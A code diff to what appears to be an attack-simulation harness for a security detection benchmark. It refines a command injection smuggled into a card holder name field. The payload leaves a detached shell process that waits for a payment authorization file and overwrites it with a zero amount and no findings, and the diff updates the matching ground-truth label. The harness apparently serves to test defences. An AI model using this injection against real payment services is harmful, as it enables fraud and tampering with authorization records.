@@ -9,12 +9,14 @@
 import { products } from '../catalog.ts';
 import { orderIdOf } from '../functions/purchase/order-form.ts';
 import type { AttackerHost } from './attacker.ts';
-import { type AttackContext, exactly, type GroundTruth } from './ground-truth.ts';
+import { type AttackContext, exactly, type GroundTruth, letInstanceRest } from './ground-truth.ts';
 import { hostFor } from './hosts.ts';
 import { buy } from './shop.ts';
 import { type Entry, functions, Story } from './steps.ts';
 
 const mostRounds = 5;
+/** Turns of the waiting loop, about a microsecond each; it stands still while the instance is frozen. */
+const patience = 20_000_000;
 
 interface Delivery extends Entry {
   /** Where the notice of the unpaid order arrived. */
@@ -76,9 +78,12 @@ async function tamper(context: AttackContext, fence: AttackerHost): Promise<Tamp
     const mule = { user: random.word(8), idempotencyKey: random.word(16) };
     const caseFile = `/tmp/authorizations/${orderIdOf(mule)}.json`;
     const planter = disguise(context);
-    // A busy wait, of built-in commands only: it starts no process and sleeps through nothing. `-s` waits for content, which is
-    // written in one piece. The descriptors are let go, or authorize-cc would wait for them to be closed.
-    const wait = `while [ ! -s ${caseFile} ];do :;done;echo "{\\"amount\\":0,\\"findings\\":[]}">${caseFile}`;
+    // A busy wait, of built-in commands only: it starts no process and sleeps through nothing. It gives up some time, for an
+    // instance that is never asked again. `-s` waits for content, which is written in one piece.
+    const wait = `i=0;while [ ! -s ${caseFile} ];do [ $i -lt ${patience} ]||exit;i=$((i+1));done`;
+    const change = `echo "{\\"amount\\":0,\\"findings\\":[]}">${caseFile}`;
+    // The descriptors are let go, or authorize-cc would wait for them to be closed.
+    const leave = `setsid sh -c '${wait};${change}' </dev/null >/dev/null 2>&1 &`;
     const plantAnswer = await buy(
       apiUrl,
       {
@@ -87,13 +92,14 @@ async function tamper(context: AttackContext, fence: AttackerHost): Promise<Tamp
         product: random.pick(products).product,
         card: {
           number: '5454545454545454',
-          holder: `${random.word(5)} ${random.word(7)}";setsid sh -c '${wait}' </dev/null >/dev/null 2>&1 & : "`,
+          holder: `${random.word(5)} ${random.word(7)}";${leave} : "`,
           expiry: '12/29',
         },
       },
       planter.userAgent,
     );
     log(`left a process behind by request ${plantAnswer.requestId}: ${plantAnswer.status}`);
+    await letInstanceRest(rounds);
 
     const { userAgent, path } = disguise(context);
     const answer = await buy(
@@ -153,7 +159,7 @@ function groundTruth(fence: AttackerHost, skipped: Delivery, { planted, delivery
     })
     .attack('the process that is left behind', {
       kind: 'process',
-      label: 'sh -c while',
+      label: 'sh -c i=0;while',
       function: authorizeCc,
       entry: planted.requestId,
     })
